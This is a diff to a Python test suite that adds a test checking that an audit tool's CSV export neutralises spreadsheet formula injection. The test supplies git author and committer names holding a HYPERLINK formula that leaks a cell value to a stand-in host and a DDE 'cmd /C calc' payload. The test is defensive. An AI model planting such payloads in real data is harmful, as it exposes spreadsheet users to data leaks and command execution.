@@ -407,6 +407,24 @@ def test_csv_reads_back_one_row_per_version(history: Project, ids: dict[str, str
     assert [(r["document"], r["version"]) for r in snapshot] == [(GLOBEX, "4"), (INITECH, "1")]
 
 
+def test_csv_never_hands_a_spreadsheet_a_formula(repo: GitProject) -> None:
+    """Git lets anyone name themselves ``=HYPERLINK(...)``: the cell stays text."""
+    repo.write("slas/globex.yaml", sla(2, "2025-03-01", "99.5"))
+    git(repo.root, "add", "-A")
+    evil = {"GIT_AUTHOR_NAME": '=HYPERLINK("http://x.example/?"&A1)',
+            "GIT_AUTHOR_EMAIL": "x@x.example", "GIT_COMMITTER_NAME": "+cmd|' /C calc'!A0",
+            "GIT_COMMITTER_EMAIL": "c@x.example", "GIT_AUTHOR_DATE": "2025-02-01T12:00:00Z",
+            "GIT_COMMITTER_DATE": "2025-02-01T12:00:00Z"}
+    git(repo.root, "commit", "-q", "-m", "loosen", env=evil)
+    run = repo.run("audit", "--format", "csv")
+    assert run.code == 0, run.err
+    rows = list(csv.reader(io.StringIO(run.out)))
+    risky = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert risky == []
+    authors = [row[rows[0].index("author")] for row in rows[1:]]
+    assert "'=HYPERLINK(\"http://x.example/?\"&A1) <x@x.example>" in authors
+
+
 def test_markdown_has_a_table_per_agreement(history: Project, ids: dict[str, str]) -> None:
     out = audit(history, "--format", "markdown").out
     assert out.startswith("# Agreement audit\n")
